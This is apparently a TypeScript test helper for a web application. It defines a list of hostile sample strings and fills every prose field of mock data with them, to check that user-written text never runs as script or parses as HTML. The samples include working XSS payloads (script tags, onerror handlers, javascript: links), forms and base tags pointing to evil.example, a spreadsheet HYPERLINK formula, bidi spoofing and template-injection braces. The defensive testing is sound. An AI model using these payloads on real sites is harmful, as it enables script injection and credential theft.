import * as z from 'zod/mini';
import type { AnyEndpoint } from '@/api/core/endpoint';
import type { World } from '@mocks/world/world';

/**
 * Text that strangers write and others read (S-9): a sample of every attack class. If any of it ran or were parsed as HTML, it
 * would leave a mark: `hostile` on the window, the title, a cookie, or an element with `data-hostile`.
 */
const RUN = "globalThis.hostile=1;document.title='hostile';document.cookie='hostile=1'";
export const SAMPLES: Readonly<Record<string, string>> = {
  script: `</title><script data-hostile>${RUN}</script>`,
  event: `"><img data-hostile src=x onerror="${RUN}">`,
  svg: `<svg data-hostile onload="${RUN}"><use href="data:image/svg+xml,x"/></svg>`,
  math: `<math data-hostile href="javascript:${RUN}">m</math>`,
  scheme: `javascript:${RUN}//`,
  link: `[x](javascript:${RUN}) <a data-hostile href="javascript:${RUN}">x</a>`,
  style: '<style data-hostile>*{display:none}</style><link rel=stylesheet href=//evil.example>',
  overlay: '<div data-hostile style="position:fixed;inset:0;z-index:9999">over</div>',
  form: '<form data-hostile action="https://evil.example"><input name=password autofocus></form>',
  frame: `<iframe data-hostile srcdoc="<script>${RUN}</script>"></iframe>`,
  base: '<base data-hostile href="https://evil.example/"><meta http-equiv=refresh content=0>',
  named: '<img data-hostile name=getElementById><a id=root></a><form id=body></form>',
  reparsed: `<noscript><p title="</noscript><img data-hostile src=x onerror=${RUN}>">`,
  bidi: '\u202Egnp.exe\u202C \u2066abc\u2067 مرحبا עולם',
  invisible: 'a\u200B\u200D\u2060\uFEFFb\u00ADc',
  braces: '{{constructor}} ${7*7} {% x %} $t(action.retry) {{count}}',
  prototype: '__proto__',
  formula: `=HYPERLINK("https://evil.example";"x")`,
  marks: 'Z\u0351\u0343\u0310a\u0315\u0321l\u0334\u0362g\u0327o\u0322 👩‍👩‍👧‍👦 🏳️‍🌈',
  long: 'Wwwwwwwwww'.repeat(30),
};
export const TEXTS: readonly string[] = Object.values(SAMPLES);

interface JsonSchema {
  readonly type?: string | readonly string[];
  readonly properties?: Readonly<Record<string, JsonSchema>>;
  readonly items?: JsonSchema;
  readonly additionalProperties?: JsonSchema | boolean;
  readonly anyOf?: readonly JsonSchema[];
  readonly oneOf?: readonly JsonSchema[];
  readonly allOf?: readonly JsonSchema[];
  readonly pattern?: string;
  readonly format?: string;
  readonly enum?: readonly unknown[];
  readonly maxLength?: number;
}

/** The lengths of free text in the contract; ids, codes, and addresses are shorter or have a pattern. */
const isFree = ({ type, pattern, format, enum: values, maxLength }: JsonSchema): boolean =>
  type === 'string' &&
  pattern === undefined &&
  format === undefined &&
  values === undefined &&
  (maxLength === undefined || maxLength >= 500);

function* textsIn(schema: JsonSchema, name: string): Iterable<string> {
  if (isFree(schema)) yield name;
  for (const [key, part] of Object.entries(schema.properties ?? {})) yield* textsIn(part, key);
  const parts = [...(schema.anyOf ?? []), ...(schema.oneOf ?? []), ...(schema.allOf ?? [])];
  for (const part of parts) yield* textsIn(part, name);
  if (schema.items) yield* textsIn(schema.items, name);
  if (typeof schema.additionalProperties === 'object') {
    yield* textsIn(schema.additionalProperties, name);
  }
}

/** The names of the free texts that a call accepts. */
export function textFields({ definition: { body } }: AnyEndpoint): ReadonlySet<string> {
  if (!body) return new Set();
  const schema = z.toJSONSchema(body, { io: 'input', unrepresentable: 'any' }) as JsonSchema;
  return new Set(textsIn(schema, 'body'));
}

/** Text that people write for people, by field name. Every free text of a call is here or in the list below. */
export const PROSE: ReadonlySet<string> = new Set(
  (
    'name title description label location address reason note comment text help options instructions contact ' +
    'fallback_contact company phone category_name update_comment signed_name batch value'
  ).split(' '),
);

/** Free texts of calls that aren’t prose, each with its meaning. */
export const READ_BY_PROGRAMS: Readonly<Record<string, string>> = {
  ...Object.fromEntries(
    ['id', 'external_id', 'target_id', 'ref', 'parent_ref'].map((name) => [name, 'an id']),
  ),
  ...Object.fromEntries(
    ['type', 'target_type', 'kind', 'test_type', 'permissions', 'grant_type'].map((name) => [
      name,
      'a choice',
    ]),
  ),
  ...Object.fromEntries(
    ['email', 'emails', 'organizer_email', 'creator_email'].map((name) => [name, 'an address']),
  ),
  ...Object.fromEntries(
    ['uri', 'image_urls', 'returnUrl'].map((name) => [name, 'an address (S-10, S-14)']),
  ),
  ...Object.fromEntries(
    ['token', 'refresh_token', 'password', 'code'].map((name) => [name, 'never shown']),
  ),
  ...Object.fromEntries(['rrules', 'recurrence'].map((name) => [name, 'rules of a series'])),
  blocking_answers: 'some of the options',
  content: 'HTML of an article (S-7)',
  error: 'for the log of the synchronization',
};

/** Puts a sample into every prose field of a value, at any depth; `next` supplies them in turn. */
function poisoned(value: unknown, next: () => string, isProse = false): unknown {
  if (typeof value === 'string') return isProse ? next() : value;
  if (Array.isArray(value)) return value.map((item) => poisoned(item, next, isProse));
  if (value === null || typeof value !== 'object') return value;
  return Object.fromEntries(
    Object.entries(value).map(([key, inner]) => [key, poisoned(inner, next, PROSE.has(key))]),
  );
}

/** Days around the present whose bookings are shown; others stay as they are. */
const AROUND = 10 * 86_400_000;
/** Reasons that the server identifies by name; text that people write appears beside them. */
const NAMED = new Set(['slot_taken', 'organizer_left']);

/** Tables whose texts are settings, or come from a calendar and its directory. */
const APART = new Set([
  'userSettings',
  'integrations',
  'applications',
  'directories',
  'connections',
]);

/**
 * Fills every prose field of a world with samples: names of people, places, teams, and offices, titles, descriptions, reasons.
 *
 * @param texts used in turn
 * @returns the number of changed rows, by table
 */
export function fillWithText(
  world: World,
  texts: readonly string[],
): Readonly<Record<string, number>> {
  const changed: Record<string, number> = {};
  let serial = 0;
  const next = () => texts[serial++ % texts.length] ?? '';
  world.transact(() => {
    for (const [name, table] of Object.entries(world.tables)) {
      if (APART.has(name)) continue;
      // Reads all of them first, so that changed ones aren’t found again.
      const rows = [...table.all()];
      for (const row of rows) {
        const { start, reason } = row as { start?: unknown; reason?: unknown };
        const far =
          typeof start === 'string' && Math.abs(Date.parse(start) - world.clock.now()) > AROUND;
        if (far || NAMED.has(String(reason))) continue;
        const before = serial;
        const filled = poisoned(row, next) as { id: string };
        if (serial === before) continue;
        (table as { update: (id: string, part: object) => unknown }).update(row.id, filled);
        changed[name] = (changed[name] ?? 0) + 1;
      }
    }
  });
  return changed;
}
